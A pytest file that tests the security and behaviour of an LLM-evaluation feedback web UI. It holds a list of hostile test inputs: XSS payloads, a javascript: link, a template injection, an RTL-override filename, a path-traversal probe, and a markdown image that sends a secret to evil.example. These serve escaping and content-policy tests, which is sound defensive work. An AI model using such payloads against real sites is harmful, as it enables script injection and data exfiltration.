"""Every page: strict policy, nothing from elsewhere, hostile words as text, small files."""

import json
import re
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser

import pytest
from sqlalchemy import Engine
from sqlmodel import col, select
from starlette.testclient import TestClient

from app.criteria import Criteria
from app.database import reading, transaction
from app.main import create_app
from app.settings import Settings
from app.store.reports import save_report
from app.store.workers import beat
from app.tables import Annotation, Interaction
from app.worker import work_once
from feedback_ui.pages import POLICY, static_path
from tests.builders import (
    FAKE_EVALUATORS,
    WEDNESDAY,
    a_span,
    an_interaction,
    save,
    score_all,
    some_interactions,
)
from tests.telemetry import put_spans

pytestmark = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)

HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "![exfiltrate](http://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "{{ 7 * 7 }}",
    "</textarea><script>alert(2)</script>",
    "\u202egnp.exe",
)
MAIN_PAGES = ("/", "/interactions", "/review", "/trends", "/reports", "/sign-in")


class Markup(HTMLParser):
    """The elements and attributes of a page."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.ids: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        self.ids += [value for name, value in attrs if name == "id" and value]


@pytest.fixture
def hostile(engine: Engine, criteria: Criteria, settings: Settings) -> Interaction:
    words = " ".join(HOSTILE)
    row = an_interaction(
        prompt=words,
        response=f"{words} It was invented. {words}",
        contexts=[words, "\n".join(HOSTILE)],
        application=HOSTILE[0],
        model=HOSTILE[1],
        system_prompt=words,
        conversation_id=words,
        segments={HOSTILE[1]: HOSTILE[0]},
        provenance={HOSTILE[0]: {"attribute": HOSTILE[1]}, "response": HOSTILE[3]},
    )
    save(engine, [row])
    score_all(engine, criteria, settings)
    span = a_span(
        name=words,
        attributes={HOSTILE[0]: words, "deep": [{HOSTILE[1]: words}]},
        status_message=words,
        status_code=2,
    )
    with transaction(engine) as session:
        put_spans(session, [span], now=WEDNESDAY)
    return row


@pytest.fixture
def paths(client: TestClient, hostile: Interaction) -> list[str]:
    created = client.post("/review", data={"name": HOSTILE[0], "size": "1"}, follow_redirects=False)
    assert created.status_code == 303
    queue = created.headers["location"]
    return [
        *MAIN_PAGES,
        "/reports/2026-W47",
        f"/interactions/{hostile.id}",
        f"/traces/{hostile.trace_id}",
        queue,
        "/interactions?text=%3Cscript%3E&segment=%3Cscript%3E=%22%3E",
        "/no-such-page",
    ]


HTML = {"accept": "text/html"}


def test_no_page_holds_markup_from_a_trace_or_anything_from_elsewhere(
    client: TestClient, paths: list[str]
) -> None:
    for path in paths:
        page = client.get(path, headers=HTML)
        assert page.headers["content-type"].startswith("text/html"), path
        for tag, attributes in Markup(page.text).elements:
            assert tag not in {"img", "iframe", "object", "embed", "base"}, path
            assert "style" not in attributes, (path, tag)
            assert not any(name.startswith("on") for name in attributes), (path, tag)
            for name in ("href", "src", "action", "formaction"):
                target = attributes.get(name) or "/"
                assert target.startswith(("/", "#")), (path, target)
                assert not target.startswith("//"), (path, target)
            if tag == "script":
                assert attributes["src"] in {static_path("touchstone.js"), static_path("live.js")}
        assert "49" not in re.findall(r">\s*(\d+)\s*<", page.text), path


def test_no_page_uses_an_id_twice(client: TestClient, paths: list[str]) -> None:
    for path in paths:
        ids = Markup(client.get(path, headers=HTML).text).ids
        assert len(ids) == len(set(ids)), path


def test_hostile_words_are_shown_as_they_are(client: TestClient, hostile: Interaction) -> None:
    html = client.get(f"/interactions/{hostile.id}").text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "![exfiltrate](http://evil.example/?q=secret)" in html


def test_every_page_has_the_strict_policy_and_is_never_cached(
    client: TestClient, paths: list[str]
) -> None:
    for path in paths:
        headers = client.get(path, headers=HTML).headers
        assert headers["x-content-type-options"] == "nosniff", path
        assert headers["cache-control"] == "no-store", path
        policy = headers["content-security-policy"]
        if path.startswith("/reports/"):
            assert "script-src" not in policy
            assert policy.startswith("default-src 'none'; style-src 'sha256-")
        else:
            assert policy == POLICY, path


def test_every_page_is_small(client: TestClient, paths: list[str]) -> None:
    for path in paths:
        if not path.startswith("/reports/"):
            assert len(client.get(path, headers=HTML).content) <= 60 * 1024, path


def test_static_files_are_kept_for_ever_under_the_address_of_their_content(
    client: TestClient,
) -> None:
    answer = client.get(static_path("touchstone.css"))
    assert "immutable" in answer.headers["cache-control"]
    assert answer.headers["content-type"].startswith("text/css")
    assert client.get("/static/0/touchstone.css").status_code == 404
    assert client.get("/static/0/..%2Fpages.py").status_code == 404


def test_an_empty_server_says_how_to_send_the_first_trace(client: TestClient) -> None:
    html = client.get("/").text
    assert "OTEL_EXPORTER_OTLP_ENDPOINT=http://127.0.0.1" in html
    assert "Open access" in html


def test_the_home_page_counts_what_failed(
    client: TestClient, engine: Engine, criteria: Criteria, settings: Settings
) -> None:
    rows = some_interactions(4)
    rows[0] = an_interaction(trace_id=rows[0].trace_id, response="An invented time.")
    save(engine, rows)
    assert "wait to be judged" in client.get("/").text
    score_all(engine, criteria, settings)
    html = client.get("/").text
    assert "ungrounded answers, 25.0" in html
    assert "4 interactions" in html


def test_a_verdict_tells_what_it_was_computed_in(
    client: TestClient, engine: Engine, criteria: Criteria, settings: Settings
) -> None:
    row = an_interaction()
    save(engine, [row])
    score_all(engine, criteria, settings)
    html = client.get(f"/interactions/{row.id}").text
    assert "<dt>Precision</dt><dd>int8, words 1 on cpu</dd>" in html


def test_filters_live_in_the_address_and_pages_follow_each_other(
    client: TestClient, engine: Engine, criteria: Criteria, settings: Settings
) -> None:
    rows = [
        an_interaction(
            trace_id=f"{number + 1:032x}",
            prompt=f"question {number}",
            response="An invented time." if number == 3 else "Fine.",
            application="shop" if number % 2 else "helpdesk",
            segments={"language": "de" if number < 10 else "en"},
            started_at=WEDNESDAY - timedelta(days=number),
        )
        for number in range(30)
    ]
    save(engine, rows)
    score_all(engine, criteria, settings)

    def shown(query: str) -> list[str]:
        return re.findall(r">(question \d+)<", client.get(f"/interactions?{query}").text)

    assert len(shown("")) == 25
    assert shown("label=ungrounded&criterion=groundedness") == ["question 3"]
    assert shown("segment=language=de&application=helpdesk") == [
        f"question {number}" for number in range(0, 10, 2)
    ]
    assert shown("segment.language=de&application=shop&text=question+7") == ["question 7"]
    assert shown("from=2026-11-17&to=2026-11-17") == ["question 1"]
    older = re.search(r'href="(/interactions\?[^"]+)" rel="next"', client.get("/interactions").text)
    assert older is not None
    second = client.get(older[1].replace("&amp;", "&")).text
    assert re.findall(r">(question \d+)<", second) == [f"question {n}" for n in range(25, 30)]


@pytest.mark.parametrize(
    ("path", "status"),
    [
        ("/interactions?cursor=nonsense", 400),
        ("/interactions?from=yesterday", 400),
        ("/interactions?segment=language", 422),
        ("/interactions?text=%00", 400),
        ("/interactions/missing", 404),
        ("/traces/missing", 404),
        ("/trends?bucket=year", 422),
        ("/trends?criterion=tone", 422),
        ("/reports/next-week", 422),
        ("/review/4711", 404),
        ("/review/words", 422),
    ],
)
def test_a_wrong_address_gets_a_page_that_says_what_is_wrong(
    client: TestClient, path: str, status: int
) -> None:
    answer = client.get(path, headers=HTML)
    assert answer.status_code == status
    assert "To the home page" in answer.text


def test_somebody_who_mistypes_a_filter_keeps_the_menu(client: TestClient) -> None:
    answer = client.get("/interactions?segment=language", headers=HTML)
    assert answer.status_code == 422
    assert '<a href="/interactions" aria-current="page">' in answer.text


def test_an_empty_list_without_a_filter_speaks_of_no_filter(client: TestClient) -> None:
    assert "No interaction has arrived yet" in client.get("/interactions").text
    assert "Nothing passes this filter" in client.get("/interactions?text=money").text


def test_the_home_page_tells_the_targets_that_are_set(
    engine: Engine, settings: Settings, hostile: Interaction
) -> None:
    targets = {"targets": "toxicity=5%", "open_access": True}
    with TestClient(
        create_app(settings.model_copy(update=targets), evaluators=FAKE_EVALUATORS),
        base_url="http://127.0.0.1",
    ) as client:
        html = client.get("/").text
    assert html.count("wanted: at most") == 1
    assert "TOUCHSTONE_TARGETS" in html


def test_a_report_leads_back_and_to_its_other_revisions(
    client: TestClient, engine: Engine, hostile: Interaction
) -> None:
    body = client.get("/api/v1/reports/2026-W47").json()
    with transaction(engine) as session:
        save_report(session, {**body, "verdict": "The first words"}, now=WEDNESDAY)
        save_report(session, {**body, "verdict": "Other words", "sha256": "x"}, now=WEDNESDAY)
    html = client.get("/reports/2026-W47").text
    assert "<h1>Other words</h1>" in html
    assert '<a href="/reports">All reports</a>' in html
    (address,) = re.findall(r'<a href="([^"]+)">Revision 1</a>', html)
    assert "<h1>The first words</h1>" in client.get(address.replace("&amp;", "&")).text
    assert client.get("/reports/2026-W47?revision=3", headers=HTML).status_code == 404


def test_trends_show_a_chart_with_numbers_for_those_who_cannot_see_it(
    client: TestClient, hostile: Interaction
) -> None:
    html = client.get("/trends?criterion=groundedness&bucket=day").text
    assert 'role="img"' in html
    assert "1 scored" in html
    assert "18 Nov" in html
    empty = client.get("/trends?criterion=groundedness&application=missing").text
    assert "Nothing was scored here yet" in empty


def test_labels_given_with_the_scores_in_view_are_not_blind(
    client: TestClient, hostile: Interaction
) -> None:
    path = f"/interactions/{hostile.id}"
    form = {"key": "k1", "label.toxicity": "mild", "comment": "rude"}
    for _ in range(2):
        assert client.post(f"{path}/annotations", data=form).status_code == 200
    html = client.get(path).text
    assert html.count("with the scores in view</span>") == 1
    changed = {"key": "k2", "label.toxicity": "severe"}
    client.post(f"{path}/annotations", data=changed)
    assert client.get(path).text.count("with the scores in view</span>") == 1
    assert client.post(f"{path}/annotations", data={"label.toxicity": "nice"}).status_code == 422


def test_a_comment_is_kept_whether_or_not_a_label_changes_with_it(
    client: TestClient, hostile: Interaction, engine: Engine
) -> None:
    path = f"/interactions/{hostile.id}"
    alone = client.post(f"{path}/annotations", data={"key": "k0", "comment": "odd"}, headers=HTML)
    assert alone.status_code == 422
    assert "choose one" in alone.text
    labels = {"label.toxicity": "mild", "label.bias": "none"}
    for key, comment in (("k1", ""), ("k2", "rude"), ("k3", "rude"), ("k4", "very rude")):
        form = {"key": key, "comment": comment, **labels}
        client.post(f"{path}/annotations", data=form)
    html = client.get(path).text
    assert '<p class="words">very rude</p>' in html
    assert ">very rude</textarea>" in html
    with transaction(engine) as session:
        assert len(session.exec(select(Annotation)).all()) == 4


def test_a_second_thought_with_the_verdicts_in_view_keeps_how_the_answer_was_drawn(
    client: TestClient, hostile: Interaction, engine: Engine
) -> None:
    drawn = Annotation(
        project="default",
        interaction_id=hostile.id,
        criterion="toxicity",
        reviewer="open access",
        blind_label="mild",
        final_label="mild",
        stratum="random",
        inclusion_probability=0.5,
        guideline_version="1",
        corrected_response="Kinder words.",
        idempotency_key="desk",
        created_at=WEDNESDAY,
    )
    with transaction(engine) as session:
        session.add(drawn)
    changed = {"key": "k1", "label.toxicity": "severe"}
    client.post(f"/interactions/{hostile.id}/annotations", data=changed)
    with transaction(engine) as session:
        first, second = session.exec(select(Annotation).order_by(col(Annotation.id))).all()
        assert (second.replaces_id, second.final_label) == (first.id, "severe")
        assert (second.blind_label, second.inclusion_probability) == ("mild", 0.5)
        assert second.corrected_response == "Kinder words."


def test_a_large_trace_is_shown_some_spans_at_a_time(client: TestClient, engine: Engine) -> None:
    spans = [
        a_span(span_id=f"{number:016x}", name=f"span-{number}.", start_ns=number)
        for number in range(1, 1_202)
    ]
    with transaction(engine) as session:
        put_spans(session, spans[:700], now=WEDNESDAY)
        put_spans(session, spans[700:], now=WEDNESDAY)
    first = client.get(f"/traces/{spans[0].trace_id}").text
    assert "1 to 1,000 of 1,201" in first
    assert "span-1000." in first
    assert "span-1001." not in first
    later = client.get(f"/traces/{spans[0].trace_id}?from_span=1001").text
    assert "1,001 to 1,201 of 1,201" in later
    assert "span-1201." in later
    assert "span-1000." not in later
    assert "?from_span=1" in later


def test_an_answer_out_of_an_object_is_shown_with_all_that_the_object_held(
    client: TestClient, engine: Engine, criteria: Criteria, settings: Settings
) -> None:
    whole = {"answer": "In 5 days.", "sources": ["faq-7"], "note": "<b>ask</b>"}
    outputs = {"output.value": json.dumps(whole)}, {"langfuse.observation.output": whole}
    plain = {"output.value": json.dumps({"answer": "In 5 days."})}
    told = [
        {"input.value": "When?", "langfuse.observation.input": "When?"} | one for one in outputs
    ]
    told.append({"input.value": "When?"} | plain)
    with transaction(engine) as session:
        for number, attributes in enumerate(told, start=1):
            span = a_span(trace_id=f"{number:032x}", attributes=attributes)
            put_spans(session, [span], now=WEDNESDAY)
    later = WEDNESDAY + timedelta(hours=1)
    work_once(engine, FAKE_EVALUATORS, criteria, settings, now=lambda: later)
    with reading(engine) as session:
        rows = session.exec(select(Interaction).order_by("trace_id")).all()
    assert [row.response for row in rows] == ["In 5 days."] * 3
    pages = [client.get(f"/interactions/{row.id}").text for row in rows]
    assert ["The whole output" in one for one in pages] == [True, True, False]
    assert all("faq-7" in one and "&lt;b&gt;ask" in one for one in pages[:2])


def test_an_evaluator_in_trouble_is_told_on_the_home_page(
    client: TestClient, engine: Engine
) -> None:
    with transaction(engine) as session:
        beat(session, "w", ["toxicity@1"], {"toxicity@1": "It hangs <b>."}, now=datetime.now(UTC))
    page = client.get("/").text
    assert "The evaluator toxicity@1 takes no work" in page
    assert "It hangs &lt;b&gt;." in page
    assert "toxicity@1" in client.get("/readyz").json()["checks"]["worker"]


def test_workers_of_different_versions_are_told_on_the_home_page(
    client: TestClient, engine: Engine
) -> None:
    with transaction(engine) as session:
        for worker, label in (("one", "toxicity@6"), ("two", "toxicity@6+1a2b3c4d")):
            beat(session, worker, [label, "bias@6"], {}, now=datetime.now(UTC))
    page = client.get("/").text
    assert "Workers run toxicity in different versions: 6, 6+1a2b3c4d." in page
    assert "Workers run bias" not in page
    assert client.get("/readyz").json()["checks"]["worker"].endswith("evaluators: toxicity")


def test_work_that_waits_for_a_worker_that_is_gone_is_told_on_the_home_page(
    client: TestClient, engine: Engine
) -> None:
    now = datetime.now(UTC)
    save(engine, [an_interaction()], now=now - timedelta(minutes=5))
    assert "No worker runs" in client.get("/").text
    with transaction(engine) as session:
        beat(session, "one", ["toxicity@6"], {}, now=now)
    assert "No worker runs" not in client.get("/").text


@pytest.mark.parametrize("path", ["/dashboard", "/trends", "/interactions"])
@pytest.mark.parametrize("day", ["0001-01-01", "9999-12-31"])
def test_a_day_at_the_end_of_the_calendar_is_refused(
    client: TestClient, path: str, day: str
) -> None:
    reply = client.get(path, params={"from": day, "to": day})
    assert reply.status_code == 400
    assert "lies outside the calendar" in reply.text
    edges = {"from": "1000-01-01", "to": "9998-12-31"}
    assert client.get(path, params=edges).status_code in (200, 422)
